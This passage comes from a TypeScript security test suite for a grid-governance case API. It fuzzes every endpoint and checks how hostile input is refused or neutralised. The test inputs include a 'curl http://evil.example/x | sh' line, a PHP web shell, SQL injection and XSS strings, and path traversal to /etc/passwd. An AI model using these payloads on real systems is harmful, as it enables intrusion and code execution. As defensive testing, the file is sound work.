    .map(([table, columns]) => `select '${table}' as name, count(*)::text as rows, coalesce(sum(hashtextextended(row(${columns.join(", ")})::text, 0)), 0)::text as hash from "${table}"`)
    .join(" union all ");
}

async function fingerprint(db: Kysely<DB>, query: string): Promise<Record<string, string>> {
  const { rows } = await sql.raw<{ name: string; rows: string; hash: string }>(query).execute(db);
  return Object.fromEntries(rows.map((row) => [row.name, `${row.rows} rows, ${row.hash}`]));
}

// ---------------------------------------------------------------------------------------------

describe("hostile input", () => {
  let t: TestApp;
  const operations = new Map(OPERATIONS.map((operation) => [operation.id, operation]));
  let fixtures: Fixtures;
  let signedIn: Caller[];
  let fingerprintSql: string;
  const sandbox = fs.mkdtempSync(path.join(os.tmpdir(), "gridgov-hostile-"));
  // Nested, so that a file name climbing out of it would still land inside the sandbox, where it is seen.
  const attachmentsDir = path.join(sandbox, "srv", "gridgov", "attachments");
  // The notification follower catches up with earlier writes in the background: first bring it
  // up to date, so that what it writes is never taken for a refused request's doing.
  const currentFingerprint = async () => {
    while ((await followRegion(t.ctx.db, "530103")).entries > 0);
    return fingerprint(t.ctx.db, fingerprintSql);
  };

  beforeAll(async () => {
    // Event streams end once live instead of staying open, so that every request answers.
    t = await createTestApp("demo", { ATTACHMENTS_DIR: attachmentsDir, EVENT_STREAM_MAX_SECONDS: "0" });
    const admin = await t.login("admin");
    const gridWorker = await t.login(GRID_WORKER);
    const key = await t.app.inject({ method: "POST", url: "/api/v1/api-keys", headers: { cookie: admin }, payload: { name: "hostile-input", organisation: "test" } });
    expect(key.statusCode, key.body).toBe(201);
    signedIn = [
      { name: "admin (session)", headers: { cookie: admin } },
      { name: "grid worker (session)", headers: { cookie: gridWorker } },
      { name: "admin (API key)", headers: { authorization: `Bearer ${key.json().apiKey.key}` } },
    ];
    const photo = await sharp({ create: { width: 32, height: 24, channels: 3, background: "#3a6" } }).png().toBuffer();
    const uploaded = await t.app.inject({ method: "POST", url: "/api/v1/attachments", headers: { cookie: gridWorker, "content-type": "image/png" }, payload: photo });
    expect(uploaded.statusCode, uploaded.body).toBe(201);
    const attachmentId = uploaded.json().attachment.id;
    const created = await t.app.inject({
      method: "POST",
      url: "/api/v1/cases",
      headers: { cookie: gridWorker },
      payload: { description: "井盖破损，夜间危险", gridCode: "530103001001001", photoIds: [attachmentId], reporter: { phone: "13800000000" } },
    });
    expect(created.statusCode, created.body).toBe(201);
    const gridWorkerRow = await t.ctx.db.selectFrom("users").select("id").where("username", "=", GRID_WORKER).executeTakeFirstOrThrow();
    const category = await t.ctx.db.selectFrom("categories").select("code").orderBy("code").executeTakeFirstOrThrow();
    fixtures = {
      caseId: created.json().case.id,
      caseNumber: created.json().case.number,
      trackingToken: created.json().trackingToken ?? "no-token-for-staff-reports",
      attachmentId,
      userId: gridWorkerRow.id,
      apiKeyId: key.json().apiKey.id,
      division: "530103001001",
      grid: "530103001001001",
      category: category.code,
    };
    fingerprintSql = await fingerprintQuery(t.ctx.db);
  });
  afterAll(async () => {
    await t?.close();
    fs.rmSync(sandbox, { recursive: true, force: true });
  });

  const anonymousCaller: fc.Arbitrary<Caller> = fc.oneof(
    fc.constant({ name: "no credentials", headers: {} }),
    fc.stringMatching(/^[A-Za-z0-9_%=-]{0,60}$/).map((token) => ({ name: "an unknown session", headers: { cookie: `gridgov_session=${token}` } })),
    fc.stringMatching(/^[A-Za-z0-9_-]{0,60}$/).map((token) => ({ name: "an unknown API key", headers: { authorization: `Bearer ggk_${token}` } })),
    fc.constantFrom("Basic YWRtaW46ZGVtby1wYXNzLTEyMw==", "Bearer", "Bearer ", "ggk_x", "Bearer ' or 1=1--").map((authorization) => ({ name: "a malformed Authorization", headers: { authorization } })),
  );

  it("knows the public operations by the ids the document gives them, and the document marks them public", () => {
    for (const id of PUBLIC_OPERATIONS) expect(operations.has(id), `${id} is not served`).toBe(true);
    const documented = OPERATIONS.filter((operation) => operation.documentedPublic).map((operation) => operation.id);
    expect(documented.sort()).toEqual([...PUBLIC_OPERATIONS].sort());
  });

  describe("every operation of the OpenAPI document", () => {
    for (const operation of OPERATIONS) {
      it(`${operation.id}: contract breaches get a 4xx and write nothing; strangers get a 401; reads write nothing`, async () => {
        const send = async (request: HostileRequest, caller: Caller) => {
          const options = injectOptions(operation, request, caller);
          const response = await t.app.inject(options);
          return { response, label: describeExchange(caller, options, response, request.breach) };
        };
        const before = await currentFingerprint();

        const breaking = contractBreakingRequest(operation, fixtures);
        if (breaking) {
          await fc.assert(
            fc.asyncProperty(breaking, fc.nat(signedIn.length - 1), async (request, who) => {
              const { response, label } = await send(request, signedIn[who]);
              expect(response.statusCode, label).toBeGreaterThanOrEqual(400);
              expect(response.statusCode, label).toBeLessThan(500);
              expectErrorShape(response, label);
            }),
            { seed: SEED, numRuns: RUNS_SIGNED_IN },
          );
          expect(await currentFingerprint(), "a refused request wrote to the database").toEqual(before);
        }

        // Strangers: a protected operation refuses anything; a public one is sent only what it must refuse.
        const strangerRequest = operation.isPublic ? breaking : anyRequest(operation, fixtures);
        if (strangerRequest) {
          await fc.assert(
            fc.asyncProperty(strangerRequest, anonymousCaller, async (request, caller) => {
              const { response, label } = await send(request, caller);
              expectNoServerError(response, label);
              if (operation.isPublic) expect(response.statusCode, label).toBeGreaterThanOrEqual(400);
              else if (!ROUTER_REFUSALS.has(errorCodeOf(response) ?? "")) {
                expect([response.statusCode, errorCodeOf(response)], label).toEqual([401, "authentication_required"]);
              }
            }),
            { seed: SEED, numRuns: RUNS_ANONYMOUS },
          );
          expect(await currentFingerprint(), "a request without credentials wrote to the database").toEqual(before);
        }

        if (isRead(operation)) {
          let answered = 0;
          await fc.assert(
            fc.asyncProperty(anyRequest(operation, fixtures), fc.nat(signedIn.length - 1), async (request, who) => {
              const { response, label } = await send(request, signedIn[who]);
              expectNoServerError(response, label);
              if (response.statusCode < 300) answered++;
            }),
            { seed: SEED, numRuns: RUNS_READS },
          );
          const after = await currentFingerprint();
          expect(withoutAuditTrail(after), "a read wrote to the database").toEqual(withoutAuditTrail(before));
          expect(rowCount(after, "audit_log") - rowCount(before, "audit_log"), "audit entries beyond one per answered read").toBeLessThanOrEqual(answered);
        }
      });
    }
  });

  describe("specific attacks", () => {
    const stranger: Caller = { name: "no credentials", headers: {} };
    const admin = () => signedIn[0];
    const sendRaw = async (caller: Caller, options: InjectOptions) => {
      const request = { ...options, headers: { ...(options.headers as Record<string, string>), ...caller.headers } };
      const response = await t.app.inject(request);
      return { response, label: describeExchange(caller, request, response) };
    };
    const rawJson = (operation: Operation, bytes: Buffer): HostileRequest => ({
      path: pathValuesOf(operation, fixtures),
      query: [],
      headers: {},
      body: { kind: "raw", bytes, contentType: "application/json" },
    });
    const writers = () => [...operations.values()].filter((operation) => !isRead(operation));

    it("answers a body over BODY_LIMIT_BYTES with 413 body_too_large on every operation that takes one, and writes nothing", async () => {
      const before = await currentFingerprint();
      const limit = t.ctx.config.bodyLimitBytes;
      const oversized = Buffer.from(JSON.stringify({ description: "长".repeat(Math.ceil(limit / 3) + 1), gridCode: fixtures.grid }));
      expect(oversized.length).toBeGreaterThan(limit);
      // A grid file has its own, larger limit (below); so have 12345 work-order and reference-data files (20 MiB, tested with the exchange).
      const ownLimits = new Set(["importGrids", "importHotlineWorkOrders", "importReferenceData"]);
      for (const operation of writers().filter((operation) => !ownLimits.has(operation.id))) {
        for (const caller of [admin(), stranger]) {
          const options = injectOptions(operation, rawJson(operation, oversized), caller);
          const response = await t.app.inject(options);
          const label = describeExchange(caller, options, response);
          expectErrorShape(response, label);
          const expected = caller === stranger && !operation.isPublic ? [401, "authentication_required"] : [413, "body_too_large"];
          expect([response.statusCode, response.json().error.code], label).toEqual(expected);
        }
      }
      // A photo has its own, larger limit.
      const photo = Buffer.concat([IMAGE_SIGNATURES.jpeg, Buffer.alloc(10 * 1024 * 1024)]);
      const { response, label } = await sendRaw(stranger, { method: "POST", url: "/api/v1/attachments", headers: { "content-type": "image/jpeg" }, payload: photo });
      expect([response.statusCode, response.json().error.code], label).toEqual([413, "body_too_large"]);
      const grids = Buffer.from(JSON.stringify({ type: "FeatureCollection", features: ["长".repeat(Math.ceil(GRID_IMPORT_MAX_BYTES / 3) + 1)] }));
      const gridImport = await sendRaw(admin(), { method: "POST", url: "/api/v1/grids/import?dryRun=true", headers: { "content-type": "application/json" }, payload: grids });
      expect([gridImport.response.statusCode, gridImport.response.json().error.code], gridImport.label).toEqual([413, "body_too_large"]);
      expect(await currentFingerprint()).toEqual(before);
    });

    it("answers a Content-Length that does not match the body with 400 invalid_content_length", async () => {
      const { response, label } = await sendRaw(stranger, {
        method: "POST",
        url: "/api/v1/cases",
        headers: { "content-type": "application/json", "content-length": "5" },
        payload: JSON.stringify({ description: "路面破损", gridCode: fixtures.grid }),
      });
      expect([response.statusCode, response.json().error.code], label).toEqual([400, "invalid_content_length"]);
    });

    it("refuses JSON nested 10,000 levels deep (and as deep as the body limit allows) with a 4xx, and keeps answering", async () => {
      const before = await currentFingerprint();
      const depth = 10_000;
      const deepArray = "[".repeat(depth) + "]".repeat(depth);
      const deepObject = '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
      const deepInAField = `{"description":"深层嵌套","gridCode":"${fixtures.grid}","location":${deepObject}}`;
      const half = Math.floor(t.ctx.config.bodyLimitBytes / 2) - 1;
      const deepest = "[".repeat(half) + "]".repeat(half);
      for (const operation of writers().filter((o) => o.body)) {
        for (const payload of [deepArray, deepObject, deepInAField, deepest]) {
          const caller = operation.isPublic ? stranger : admin();
          const options = injectOptions(operation, rawJson(operation, Buffer.from(payload)), caller);
          const response = await t.app.inject(options);
          const label = describeExchange(caller, options, response);
          expect(response.statusCode, label).toBeGreaterThanOrEqual(400);
          expect(response.statusCode, label).toBeLessThan(500);
          expectErrorShape(response, label);
        }
      }
      expect((await t.app.inject({ method: "GET", url: "/healthz" })).statusCode).toBe(200);
      expect(await currentFingerprint()).toEqual(before);
    });

    it("refuses a lone surrogate escaped in JSON text or encoded in a query string with 400, instead of storing U+FFFD", async () => {
      const before = await currentFingerprint();
      // A high half alone, a low half alone, halves in the wrong order, a high half at the very end.
      for (const escaped of ["\\ud800", "\\udfff", "\\ude00\\ud83d", "路面破损\\ud83d"]) {
        const bodies: [url: string, payload: string][] = [
          ["/api/v1/cases", `{"description":"路面破损${escaped}","gridCode":"${fixtures.grid}"}`],
          ["/api/v1/cases", `{"description":"路面破损","gridCode":"${fixtures.grid}","reporter":{"name":"${escaped}"}}`],
          ["/api/v1/cases", `{"description":"路面破损","gridCode":"${fixtures.grid}","${escaped}":1}`],
          ["/api/v1/auth/login", `{"username":"admin${escaped}","password":"wrong-password"}`],
        ];
        for (const [url, payload] of bodies) {
          const { response, label } = await sendRaw(stranger, { method: "POST", url, headers: { "content-type": "application/json" }, payload });
          expect([response.statusCode, response.json().error.code], label).toEqual([400, "validation_failed"]);
        }
      }
      // Encoded as UTF-8 would encode a surrogate, raw, or as a stray escape: never read as literal text.
      for (const q of ["%ED%A0%80", "a%ED%B0%80b", "%F0%9F", "%", "%ZZ"]) {
        const { response, label } = await sendRaw(admin(), { method: "GET", url: `/api/v1/cases?q=${q}` });
        expect(response.statusCode, label).toBe(400);
        expect(["invalid_query", "validation_failed"], label).toContain(response.json().error.code);
      }
      expect(await currentFingerprint()).toEqual(before);
      // A well-formed pair is one character, and welcome.
      const emoji = await sendRaw(stranger, {
        method: "POST",
        url: "/api/v1/cases",
        headers: { "content-type": "application/json" },
        payload: `{"description":"路面破损\\ud83d\\ude00","gridCode":"${fixtures.grid}"}`,
      });
      expect([emoji.response.statusCode, emoji.response.json().case?.description], emoji.label).toEqual([201, "路面破损😀"]);
    });

    it("refuses invalid UTF-8 inside a JSON string with 400 invalid_json, instead of storing U+FFFD", async () => {
      const before = await currentFingerprint();
      // A lone continuation byte, an overlong "/", an encoded surrogate, a truncated sequence, a five-byte form.
      const malformed = [[0xff], [0x80], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xe4, 0xb8], [0xf8, 0x88, 0x80, 0x80, 0x80]];
      for (const bytes of malformed) {
        const report = Buffer.concat([Buffer.from('{"description":"路面破损'), Buffer.from(bytes), Buffer.from(`","gridCode":"${fixtures.grid}"}`)]);
        const login = Buffer.concat([Buffer.from('{"username":"admin'), Buffer.from(bytes), Buffer.from('","password":"wrong-password"}')]);
        for (const [url, payload] of [["/api/v1/cases", report], ["/api/v1/auth/login", login]] as const) {
          const { response, label } = await sendRaw(stranger, { method: "POST", url, headers: { "content-type": "application/json" }, payload });
          expect([response.statusCode, response.json().error.code], label).toEqual([400, "invalid_json"]);
        }
      }
      expect(await currentFingerprint()).toEqual(before);
    });

    it("answers malformed URLs, over-long path segments and NUL characters with a 4xx in the error shape", async () => {
      const before = await currentFingerprint();
      const urls: [method: InjectOptions["method"], url: string, status: number, code: string][] = [
        ["GET", "/api/v1/users/%ZZ", 400, "invalid_url"],
        ["GET", "/api/v1/cases/%c0%af", 400, "invalid_url"],
        ["PATCH", "/api/v1/categories/%ED%A0%80", 400, "invalid_url"],
        ["POST", `/api/v1/cases/${"a".repeat(200)}/transitions`, 414, "url_too_long"],
        ["GET", "/api/v1/cases/..%2f..%2f..%2fetc%2fpasswd", 400, "validation_failed"],
        ["GET", "/api/v1/divisions/530103%00", 400, "validation_failed"],
        ["PATCH", `/api/v1/categories/${encodeURIComponent(`${fixtures.category}\u0000`)}`, 400, "validation_failed"],
        ["GET", "/api/v1/cases?q=%00", 400, "validation_failed"],
        ["GET", "/api/v1/users?cursor=%00", 400, "validation_failed"],
      ];
      for (const [method, url, status, code] of urls) {
        const { response, label } = await sendRaw(admin(), { method, url, headers: { "if-match": '"1"' }, payload: method === "GET" ? undefined : { active: true } });
        expectErrorShape(response, label);
        expect([response.statusCode, response.json().error.code], label).toEqual([status, code]);
      }
      const nulInLogin = await sendRaw(stranger, { method: "POST", url: "/api/v1/auth/login", payload: { username: "admin\u0000", password: "wrong-password" } });
      expect([nulInLogin.response.statusCode, nulInLogin.response.json().error.code], nulInLogin.label).toEqual([400, "validation_failed"]);
      expect(await currentFingerprint()).toEqual(before);
    });

    it("stores SQL and HTML in the text of a report verbatim, returns them as inert JSON, and leaves the database intact", async () => {
      const before = await currentFingerprint();
      const description = `路灯不亮'; drop table cases; -- ' or 1=1-- "); delete from users; -- <script>alert(document.cookie)</script> <img src=x onerror=alert(1)> \\'; select pg_sleep(5); --`;
      const title = "<script>alert(1)</script>' or '1'='1";
      const reporterName = "Robert'); DROP TABLE users;--";
      const created = await sendRaw(stranger, {
        method: "POST",
        url: "/api/v1/cases",
        payload: { description, title, gridCode: fixtures.grid, reporter: { name: reporterName, phone: "13800000000" } },
      });
      expect(created.response.statusCode, created.label).toBe(201);
      expect(created.response.headers["content-type"]).toMatch(/^application\/json/);
      const { case: stored, trackingToken } = created.response.json();
      expect([stored.description, stored.title]).toEqual([description, title]);

      const after = await currentFingerprint();
      expect(Object.keys(after).sort(), "a table was dropped or added").toEqual(Object.keys(before).sort());
      expect(rowCount(after, "cases")).toBe(rowCount(before, "cases") + 1);
      for (const table of ["users", "divisions", "grids", "categories", "sessions", "api_keys", "attachments"]) expect(after[table], table).toBe(before[table]);

      const detail = await sendRaw(admin(), { method: "GET", url: `/api/v1/cases/${stored.id}` });
      expect(detail.response.headers["content-type"]).toMatch(/^application\/json/);
      expect(detail.response.json().case, detail.label).toMatchObject({ description, title, reporter: { name: reporterName } });
      const search = await sendRaw(admin(), { method: "GET", url: `/api/v1/cases?q=${encodeURIComponent("' or 1=1--")}` });
      expect(search.response.json().cases.map((c: { id: string }) => c.id), search.label).toEqual([stored.id]);
      const tracked = await sendRaw(stranger, { method: "GET", url: `/api/v1/public/cases/${stored.number}?token=${trackingToken}` });
      expect(tracked.response.json().title, tracked.label).toBe(title);
    });

    /** Every file under the sandbox, relative to it. */
    const filesInSandbox = () =>
      (fs.readdirSync(sandbox, { recursive: true, withFileTypes: true }) as fs.Dirent[])
        .filter((entry) => entry.isFile())
        .map((entry) => path.relative(sandbox, path.join(entry.parentPath, entry.name)))
        .sort();
    const attachmentRows = () => t.ctx.db.selectFrom("attachments").select(["id", "storage_key"]).execute();
    const upload = (payload: Buffer, headers: Record<string, string>, url = "/api/v1/attachments") =>
      sendRaw(signedIn[1], { method: "POST", url, headers, payload });

    it("keeps a file name with path traversal away from the file system: the photo is stored under a generated key", async () => {
      const filesBefore = filesInSandbox();
      const photo = await sharp({ create: { width: 40, height: 30, channels: 3, background: "#36c" } }).png().toBuffer();
      const traversal = "../../etc/passwd";
      // Every place a client could put a file name: the upload takes none of them.
      const named = {
        "content-type": "image/png",
        "content-disposition": `attachment; filename="${traversal}"; filename*=UTF-8''..%2F..%2Fetc%2Fpasswd`,
        "x-file-name": traversal,
      };
      const url = `/api/v1/attachments?filename=${encodeURIComponent(traversal)}&path=${encodeURIComponent("../../../tmp/x.png")}`;
      const { response, label } = await upload(photo, named, url);
      expect(response.statusCode, label).toBe(201);
      const { id } = response.json().attachment;
      const row = (await attachmentRows()).find((r) => r.id === id);
      expect(row?.storage_key).toMatch(new RegExp(`^[0-9]{6}/[0-9]{4}/[0-9]{2}/${id}\\.(jpg|webp)$`));
      const added = filesInSandbox().filter((file) => !filesBefore.includes(file));
      expect(added).toEqual([path.join(path.relative(sandbox, attachmentsDir), ...(row?.storage_key ?? "").split("/"))]);
      expect(filesInSandbox().every((file) => file.startsWith(path.relative(sandbox, attachmentsDir) + path.sep))).toBe(true);

      // The same name in a multipart form: the API takes no forms, so nothing is read at all.
      const boundary = "----hostile";
      const form = Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${traversal}"\r\nContent-Type: image/png\r\n\r\n${photo.toString("latin1")}\r\n--${boundary}--\r\n`,
        "latin1",
      );
      const multipart = await upload(form, { "content-type": `multipart/form-data; boundary=${boundary}` });
      expect([multipart.response.statusCode, multipart.response.json().error.code], multipart.label).toEqual([415, "unsupported_media_type"]);
      expect(filesInSandbox()).toEqual([...filesBefore, ...added].sort());
    });

    it("refuses scripts dressed up as photos with a stable 4xx code, and stores nothing", async () => {
      const rowsBefore = await attachmentRows();
      const filesBefore = filesInSandbox();
      const script = (text: string) => Buffer.from(text);
      const disguised: [name: string, bytes: Buffer, contentType: string, code: string][] = [
        ["a PNG signature before a shell script", Buffer.concat([IMAGE_SIGNATURES.png, script("#!/bin/sh\ncurl http://evil.example/x | sh\n")]), "image/png", "photo_unreadable"],
        ["a PNG signature before an HTML page", Buffer.concat([IMAGE_SIGNATURES.png, script("<html><body><script>alert(1)</script></body></html>")]), "image/png", "photo_unreadable"],
        ["a JPEG signature before PHP", Buffer.concat([IMAGE_SIGNATURES.jpeg, script("<?php system($_GET['c']); ?>")]), "image/jpeg", "photo_unreadable"],
        ["a WebP header before JavaScript", Buffer.concat([script("RIFF\x10\x00\x00\x00WEBPVP8 "), script("alert(document.cookie)")]), "image/webp", "photo_unreadable"],
        ["a .png that is really JavaScript", script("fetch('/api/v1/auth/me').then((r) => r.text()).then(alert);"), "image/png", "photo_not_an_image"],
        ["an SVG with a script", script('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'), "image/png", "photo_not_an_image"],
        ["a GIF with a script", script("GIF89a/*<script>alert(1)</script>*/"), "image/jpeg", "photo_not_an_image"],
        ["an HTML page", script("<!doctype html><script>alert(1)</script>"), "image/webp", "photo_not_an_image"],
      ];
      for (const [name, bytes, contentType, code] of disguised) {
        const { response, label } = await upload(bytes, { "content-type": contentType, "content-disposition": 'attachment; filename="photo.png"' });
        expect([response.statusCode, response.json().error.code], `${name}: ${label}`).toEqual([400, code]);
      }
      expect(await attachmentRows()).toEqual(rowsBefore);
      expect(filesInSandbox()).toEqual(filesBefore);
    });

    it("re-encodes a real photo that carries a script (appended or in a metadata chunk), so that the stored bytes hold none", async () => {
      const payload = "<script>alert(1)</script><?php system('id'); ?>#!/bin/sh";
      const png = await sharp({ create: { width: 24, height: 24, channels: 3, background: "#c93" } }).png().toBuffer();
      const jpeg = await sharp({ create: { width: 24, height: 24, channels: 3, background: "#39c" } }).jpeg().toBuffer();
      const carriers: [name: string, bytes: Buffer, contentType: string][] = [
        ["a PNG with a script after its end", Buffer.concat([png, Buffer.from(payload)]), "image/png"],
        ["a PNG with a script in a tEXt chunk", withPngTextChunk(png, "Comment", payload), "image/png"],
        ["a JPEG with a script after its end", Buffer.concat([jpeg, Buffer.from(payload)]), "image/jpeg"],
        ["a JPEG with a script in a comment segment", withJpegComment(jpeg, payload), "image/jpeg"],
      ];
      for (const [name, bytes, contentType] of carriers) {
        expect(bytes.includes(payload), name).toBe(true);
        const { response, label } = await upload(bytes, { "content-type": contentType });
        if (response.statusCode >= 400) {
          expectErrorShape(response, label);
          expect(response.json().error.code, label).toMatch(/^photo_/);
          continue;
        }
        expect(response.statusCode, label).toBe(201);
        const row = (await attachmentRows()).find((r) => r.id === response.json().attachment.id);
        const stored = fs.readFileSync(path.join(attachmentsDir, ...(row?.storage_key ?? "").split("/")));
        for (const needle of ["<script", "<?php", "#!/bin/sh", "alert("]) expect(stored.includes(needle), `${name}: ${needle}`).toBe(false);
        expect((await sharp(stored).metadata()).format, name).toMatch(/^(jpeg|webp)$/);
      }
    });
  });
});

/** A PNG with a tEXt chunk inserted after its header chunk. */
function withPngTextChunk(png: Buffer, keyword: string, text: string): Buffer {
  const data = Buffer.concat([Buffer.from(keyword, "latin1"), Buffer.from([0]), Buffer.from(text, "latin1")]);
  const type = Buffer.from("tEXt", "latin1");
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(Buffer.concat([type, data])));
  const afterHeader = 8 + 4 + 4 + 13 + 4; // signature, then IHDR: length, type, 13 bytes of data, CRC
  return Buffer.concat([png.subarray(0, afterHeader), length, type, data, crc, png.subarray(afterHeader)]);
}

/** A JPEG with a COM (comment) segment right after its start-of-image marker. */
function withJpegComment(jpeg: Buffer, text: string): Buffer {
  const data = Buffer.from(text, "latin1");
  const header = Buffer.alloc(4);
  header.writeUInt16BE(0xfffe, 0);
  header.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), header, data, jpeg.subarray(2)]);
}
